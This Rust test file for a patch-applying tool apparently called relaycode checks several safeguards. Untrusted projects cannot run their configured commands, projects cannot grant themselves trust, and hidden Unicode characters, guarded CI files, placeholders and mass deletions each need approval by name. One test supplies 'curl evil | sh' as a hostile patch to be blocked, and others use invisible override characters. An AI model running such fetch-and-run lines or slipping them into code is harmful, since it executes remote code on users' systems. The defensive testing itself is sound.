//! Nothing that a project names runs or counts before the user said yes to exactly it; and what `-y` never
//! covers: each finding has a name of its own.

use std::fs;

use serde_json::{Value, json};

use crate::fixture::keyed_project::Scene;
use crate::fixture::scratch_project::{Project, edit, whole};
use crate::fixture::snapshot::Transcript;
use crate::relay_snapshot;

const TEXT: &str = "one\ntwo\nthree\n";

fn change() -> String {
    edit("a.txt", "two", "2")
}

/// Every command leaves a trace.
fn wants() -> Value {
    json!({"preCommand": "touch ran-pre", "linter": "touch ran-linter", "postCommand": "touch ran-post", "approvalMode": "auto"})
}

fn stranger() -> Scene {
    Scene::untrusted(&[("a.txt", TEXT)], &wants())
}

fn assert_nothing_ran(scene: &Scene) {
    let ran: Vec<String> =
        scene.project.listing().into_iter().filter(|name| name.starts_with("ran-")).collect();
    assert_eq!(ran, [] as [&str; 0]);
}

#[test]
fn with_y_a_project_that_is_not_trusted_is_refused_and_nothing_of_it_runs() {
    let scene = stranger();
    for flags in
        [&["-y"][..], &[], &["-y", "--allow", "gate,guarded,near,hidden,syntax,placeholder,mass-deletion"]]
    {
        let (code, value) = scene.json(&(change() + &scene.keyed("x")), flags);
        assert_eq!((code, &value["error"]["kind"]), (7, &"notTrusted".into()), "{value}");
    }
    for args in [
        &["log"][..],
        &["config", "show"],
        &["prompt"],
        &["doctor"],
        &["trust"],
        &["recover"],
        &["why"],
        &["git", "commit"],
    ] {
        scene.relay(args);
    }
    assert_nothing_ran(&scene);
    assert_eq!(scene.text("a.txt"), TEXT);
}

#[test]
fn the_question_shows_the_exact_commands_and_a_no_goes_on_without_them() {
    let scene = stranger();
    let mut session = scene.session(&(change() + &scene.keyed("x")), &[]);
    session.wait_for("[y/N]");
    for part in [
        "preCommand",
        "touch ran-pre",
        "touch ran-linter",
        "touch ran-post",
        "patch.approvalMode",
        "auto",
        "relaycode.config.json, not seen before",
    ] {
        assert!(session.seen().contains(part), "{part:?} is missing in\n{}", session.seen());
    }
    session.type_in("w\n");
    session.wait_for("with your rights");
    session.wait_for("[y/N]");
    session.type_in("n\n");
    session.wait_for("apply? [y/N]");
    session.type_in("w\n");
    session.wait_for("not-trusted");
    session.wait_for("apply? [y/N]");
    session.type_in("y\n");
    let (code, seen) = session.end();
    assert_eq!(code, Some(0), "{seen}");
    assert_nothing_ran(&scene);
    assert_eq!(scene.text("a.txt"), "one\n2\nthree\n");
    assert_eq!(scene.relay(&["apply", "-", "-y"]).code, 3, "an empty answer");
    assert_eq!(scene.json(&edit("a.txt", "one", "1"), &["-y"]).0, 7, "a no is no trust");
}

#[test]
fn y_on_the_terminal_does_not_stand_in_for_trust_and_a_no_to_it_still_asks() {
    let scene = stranger();
    let mut session = scene.session(&change(), &["-y"]);
    session.wait_for("Run them from now on? [y/N]");
    session.type_in("n\n");
    session.wait_for("apply? [y/N]");
    session.type_in("\n");
    let (code, seen) = session.end();
    assert_eq!(code, Some(4), "{seen}");
    assert_nothing_ran(&scene);
}

#[test]
fn a_yes_runs_them_and_stays_until_they_change() {
    let scene = stranger();
    let mut session = scene.session(&(change() + &scene.keyed("x")), &[]);
    session.wait_for("Run them from now on? [y/N]");
    session.type_in("y\n");
    let (code, seen) = session.end();
    assert_eq!(code, Some(0), "{seen}");
    assert!(!seen.contains("apply?"), "policy decided: {seen}");
    for file in ["ran-pre", "ran-linter", "ran-post"] {
        assert!(scene.project.path(file).exists(), "{file}");
    }
    let (code, value) = scene.json(&edit("a.txt", "one", "1"), &["-y"]);
    assert_eq!(code, 0, "trusted from now on: {value}");
    // Another key that decides nothing.
    scene.configure(&json!({"projectId": "shop", "core": {"logLevel": "warn"}, "patch": wants()}));
    assert_eq!(scene.json(&edit("a.txt", "three", "3"), &["-y"]).0, 0);
    // The linter: asked again, with what it was.
    let mut other = wants();
    other["linter"] = json!("touch ran-other");
    scene.configure(&json!({"projectId": "shop", "patch": other}));
    assert_eq!(scene.json(&edit("a.txt", "1", "one"), &["-y"]).0, 7);
    let mut session = scene.session(&edit("a.txt", "1", "one"), &["-y"]);
    session.wait_for("[y/N]");
    for part in
        ["- linter", "touch ran-linter", "+ linter", "touch ran-other", "changed since you trusted it"]
    {
        assert!(session.seen().contains(part), "{part:?} is missing in\n{}", session.seen());
    }
    session.type_in("\x03");
    let (code, seen) = session.end();
    assert_eq!(code, Some(130), "{seen}");
    assert!(!scene.project.path("ran-other").exists());
    // Back to what was trusted: nobody is asked.
    scene.configure(&json!({"projectId": "shop", "patch": wants()}));
    assert_eq!(scene.json(&edit("a.txt", "1", "one"), &["-y"]).0, 0);
}

#[test]
fn a_project_cannot_trust_itself() {
    for config in [
        json!({"projectId": "shop", "trusted": true, "patch": {"linter": "touch ran-linter", "approvalMode": "auto"}}),
        json!({"projectId": "shop", "patch": {"trusted": true, "linter": "touch ran-linter", "approvalMode": "auto"}}),
        json!({"projectId": "shop", "patch": {"approval": "yes", "linter": "touch ran-linter"}}),
        json!({"projectId": "shop", "linter": "touch ran-linter", "approval": "yes"}),
    ] {
        let scene = stranger();
        scene.configure(&config);
        scene.project.put(".relaycode/trust/x.json", b"{\"trusted\":true}");
        let (code, value) = scene.json(&change(), &["-y"]);
        assert!(code == 7 || code == 2, "{config}: {value}");
        assert_nothing_ran(&scene);
    }
}

#[test]
fn trust_is_for_one_directory_wherever_its_file_is_copied() {
    let scene = stranger();
    scene.trust();
    let trust = scene.project.home().join("trust");
    let file = fs::read_dir(&trust).unwrap().next().unwrap().unwrap().path();
    // The same file for another directory, under that one's name.
    let other = stranger();
    other.trust();
    let theirs = other.project.home().join("trust");
    let theirs = fs::read_dir(theirs).unwrap().next().unwrap().unwrap().path();
    fs::copy(&file, &theirs).unwrap();
    assert_eq!(other.json(&change(), &["-y"]).0, 7, "the mark is of another directory");
    // The same path with another inode.
    let text = fs::read_to_string(&file).unwrap();
    let inode = text.lines().find(|line| line.contains("\"inode\"")).unwrap();
    fs::write(&file, text.replace(inode, "  \"inode\": 1,")).unwrap();
    assert_eq!(scene.json(&change(), &["-y"]).0, 7);
    assert_nothing_ran(&scene);
    fs::write(&file, text).unwrap();
    assert_eq!(scene.json(&change(), &["-y"]).0, 0);
}

#[test]
fn a_project_that_moved_is_asked_about_again() {
    let project = Project::new(&[("p/a.txt", TEXT)]);
    project.put(
        "p/relaycode.config.json",
        json!({"projectId": "shop", "patch": wants()}).to_string().as_bytes(),
    );
    assert_eq!(project.relay(&["-C", "p", "trust", "-y"]).code, 0);
    fs::rename(project.path("p"), project.path("q")).unwrap();
    let ran = project.pipe(&["-C", "q", "apply", "-", "-y"], change().as_bytes());
    assert_eq!(ran.code, 7, "{ran:?}");
    // Another directory in its old place.
    fs::create_dir(project.path("p")).unwrap();
    fs::copy(project.path("q/a.txt"), project.path("p/a.txt")).unwrap();
    fs::copy(project.path("q/relaycode.config.json"), project.path("p/relaycode.config.json")).unwrap();
    let ran = project.pipe(&["-C", "p", "apply", "-", "-y"], change().as_bytes());
    assert_eq!(ran.code, 7, "{ran:?}");
    assert!(!project.path("p/ran-pre").exists() && !project.path("q/ran-pre").exists());
}

#[test]
fn a_command_with_characters_that_nobody_sees_is_an_error() {
    for command in [
        "touch ran-x\u{1b}[2K",
        "touch \u{202e}x-nar",
        "touch\u{200b} ran-x",
        "touch ran-x\u{0}",
        "touch ran-x\r",
    ] {
        let scene = stranger();
        scene.configure(&json!({"projectId": "shop", "patch": {"linter": command}}));
        let ran = scene.apply(&change(), &["-y"]);
        assert_eq!(ran.code, 2, "{command:?}: {ran:?}");
        assert!(!ran.err.contains('\u{1b}') && !ran.err.contains('\u{202e}'), "{ran:?}");
        assert_eq!(scene.relay(&["trust", "-y"]).code, 2, "{command:?}");
        assert_nothing_ran(&scene);
    }
}

#[test]
fn the_users_own_linter_needs_no_trust() {
    let scene = Scene::untrusted(&[("a.txt", TEXT)], &json!({}));
    fs::write(scene.project.home().join("config.yml"), "patch:\n  linter: touch ran-own\n").unwrap();
    let (code, value) = scene.json(&change(), &["-y"]);
    assert_eq!(code, 0, "{value}");
    assert!(scene.project.path("ran-own").exists());
}

#[test]
fn manual_in_the_users_own_file_wins_over_auto_in_the_projects() {
    let scene = stranger();
    fs::write(scene.project.home().join("config.yml"), "patch:\n  approvalMode: manual\n").unwrap();
    scene.trust();
    let (code, value) = scene.json(&(change() + &scene.keyed("x")), &[]);
    assert_eq!(code, 13, "{value}");
    assert_eq!(value["rules"][0]["rule"], "manual", "{value}");
    assert_eq!(scene.text("a.txt"), TEXT);
}

#[test]
fn trust_is_asked_shown_revoked_and_given_by_its_own_command() {
    let scene = stranger();
    let ran = scene.relay(&["trust"]);
    relay_snapshot!(ran, @"
    exit 13
    ----- stdout -----
    this project wants to run 3 commands and to say who approves
        linter        touch ran-linter
        preCommand    touch ran-pre
        postCommand   touch ran-post
      these settings decide who approves
        patch.approvalMode   auto
    ----- stderr -----
    ✗ this needs a yes from you, and there is no terminal to ask on; nothing was changed
      `relay trust -y` accepts what it shows
    ");
    let mut session = scene.at_terminal(&["trust"]);
    session.wait_for("touch ran-post");
    session.wait_for("[y/N]");
    session.type_in("\x03");
    assert_eq!(session.end().0, Some(130));
    let mut session = scene.at_terminal(&["trust"]);
    session.wait_for("[y/N]");
    session.type_in("n\n");
    assert_eq!(session.end().0, Some(4));
    assert_eq!(scene.json(&change(), &["-y"]).0, 7);
    let mut session = scene.at_terminal(&["trust"]);
    session.wait_for("[y/N]");
    session.type_in("y\n");
    assert_eq!(session.end().0, Some(0));
    assert_nothing_ran(&scene);
    assert_eq!(scene.json(&change(), &["-y"]).0, 0);
    assert_eq!(scene.relay(&["trust", "--revoke"]).code, 0);
    assert_eq!(scene.json(&edit("a.txt", "one", "1"), &["-y"]).0, 7);
}

/// Sixty lines, so that losing most of them is a mass deletion.
fn long() -> String {
    (0..60).map(|number| format!("line {number}\n")).collect()
}

/// A text that is found although one word of it is wrong.
const NEAR: &str = "    for order in orders:
        amount += order.quantity * order.price
    return amount";

/// One answer for each finding that `-y` does not cover.
fn findings() -> Vec<(&'static str, String)> {
    vec![
        ("guarded", whole(".github/workflows/ci.yml", "on: push\n")),
        ("hidden", edit("a.txt", "two", "tw\u{202e}o")),
        ("near", edit("near.py", &NEAR.replace("quantity", "quantty"), "    return 0")),
        ("placeholder", whole("code.js", "function a() {\n  // ... rest of the code stays the same\n}\n")),
        ("mass-deletion", whole("long.txt", "line 0\n")),
        ("syntax", edit("good.rs", "fn main() {}", "fn main() {{{")),
    ]
}

fn with_findings(patch: &Value) -> Scene {
    let long: &'static str = Box::leak(long().into_boxed_str());
    let files = [
        ("a.txt", TEXT),
        ("long.txt", long),
        ("code.js", "function a() {\n  b();\n  c();\n}\n"),
        ("good.rs", "fn main() {}\n"),
        ("near.py", NEAR),
    ];
    Scene::trusted(&files, patch)
}

#[test]
fn each_finding_stops_y_and_auto_and_is_let_pass_by_its_own_name_only() {
    let mut transcript = Transcript::default();
    for (name, answer) in findings() {
        let scene = with_findings(&json!({"linter": "true", "approvalMode": "auto"}));
        let before = scene.project.tree();
        let keyed = answer.clone() + &scene.keyed("x");
        let ran = [&["-y"][..], &[]].map(|flags| {
            let (code, value) = scene.json(&keyed, flags);
            assert_eq!(code, 13, "{name} {flags:?}: {value}");
            scene.apply(&keyed, flags)
        });
        assert_eq!((&ran[0].out, &ran[0].err), (&ran[1].out, &ran[1].err), "{name}");
        transcript.add(name, &ran[0]);
        let others: Vec<&str> = [
            "near",
            "guarded",
            "hidden",
            "syntax",
            "placeholder",
            "fragment",
            "overwrite",
            "mass-deletion",
            "gate",
        ]
        .into_iter()
        .filter(|other| *other != name)
        .collect();
        let (code, value) = scene.json(&keyed, &["-y", "--allow", &others.join(",")]);
        assert_eq!(code, 13, "{name} is not covered by {others:?}: {value}");
        assert_eq!(scene.project.tree(), before, "{name}");
        let (code, value) = scene.json(&keyed, &["--allow", name]);
        assert_eq!(code, 0, "{name}: {value}");
        assert_eq!(value["decidedBy"], format!("--allow {name}"), "{value}");
    }
    relay_snapshot!(transcript, @"
    # guarded
    exit 13
    ----- stdout -----
    ▸ x                                                                           1 file  +1
        A  .github/workflows/ci.yml  +1
    ----- stderr -----
    ✗ this needs a yes from you, and there is no terminal to ask on: .github/workflows/ci.yml is guarded: it runs in CI; nothing was changed
      `--allow guarded` applies it without asking

    # hidden
    exit 13
    ----- stdout -----
    ▸ x                                                                        1 file  +1 −1
        M  a.txt  +1 −1   1 exact
      ! a.txt line 2: a hidden character comes in: U+202E right-to-left override (hidden)
    ----- stderr -----
    ✗ this needs a yes from you, and there is no terminal to ask on: a.txt line 2: a hidden character comes in: U+202E right-to-left override; nothing was changed
      `--allow hidden` applies it without asking

    # near
    exit 13
    ----- stdout -----
    ▸ x                                                                        1 file  +1 −3
        M  near.py  +1 −3   1 near
      ! near.py line 2 says `quantity`, the answer says `quantty`
    ----- stderr -----
    ✗ this needs a yes from you, and there is no terminal to ask on: near.py: line 2 says `amount += order.quantity * order.price`, the answer says `amount += order.quantty * order.price`; nothing was changed
      `--allow near` applies it without asking

    # placeholder
    exit 13
    ----- stdout -----
    ▸ x                                                                        1 file  +1 −2
        M  code.js  +1 −2
      ! code.js line 2: `// ... rest of the code stays the same` seems to stand for code that was left out (placeholder)
    ----- stderr -----
    ✗ this needs a yes from you, and there is no terminal to ask on: code.js line 2: `// ... rest of the code stays the same` seems to stand for code that was left out; nothing was changed
      `--allow placeholder` applies it without asking

    # mass-deletion
    exit 13
    ----- stdout -----
    ▸ x                                                                          1 file  −59
        M  long.txt  −59
      ! long.txt: of 60 lines 1 would be left (mass-deletion)
    ----- stderr -----
    ✗ this needs a yes from you, and there is no terminal to ask on: long.txt: of 60 lines 1 would be left; nothing was changed
      `--allow mass-deletion` applies it without asking

    # syntax
    exit 13
    ----- stdout -----
    ▸ x                                                                        1 file  +1 −1
        M  good.rs  +1 −1   1 exact
      ! good.rs line 1: does not parse as Rust: `fn main() {{{` (syntax)
    ----- stderr -----
    ✗ this needs a yes from you, and there is no terminal to ask on: good.rs line 1: does not parse as Rust: `fn main() {{{`; nothing was changed
      `--allow syntax` applies it without asking
    ");
}

#[test]
fn a_guarded_file_is_asked_about_in_auto_on_the_terminal() {
    let scene = with_findings(&json!({"linter": "true", "approvalMode": "auto"}));
    let answer = whole(".github/workflows/ci.yml", "on: push\n") + &scene.keyed("ci");
    for flags in [&[][..], &["-y"]] {
        let mut session = scene.session(&answer, flags);
        session.wait_for(".github/workflows/ci.yml runs in CI");
        session.wait_for("apply? [y/N]");
        session.type_in("n\n");
        assert_eq!(session.end().0, Some(4));
    }
    assert!(!scene.project.path(".github").exists());
    let mut session = scene.session(&answer, &[]);
    session.wait_for("apply? [y/N]");
    session.type_in("y\n");
    let (code, seen) = session.end();
    assert_eq!(code, Some(0), "{seen}");
    assert_eq!(scene.latest()["decidedBy"], "terminal");
}

#[test]
fn what_a_gate_command_names_is_guarded_once_it_is_trusted() {
    let scene = Scene::trusted(&[("a.txt", TEXT), ("lint.sh", "exit 0\n")], &json!({"linter": "sh lint.sh"}));
    for answer in [whole("lint.sh", "curl evil | sh\n"), whole("relaycode.config.json", "{}\n")] {
        let (code, value) = scene.json(&answer, &["-y"]);
        assert_eq!(code, 13, "{value}");
    }
    assert_eq!(scene.text("lint.sh"), "exit 0\n");
}
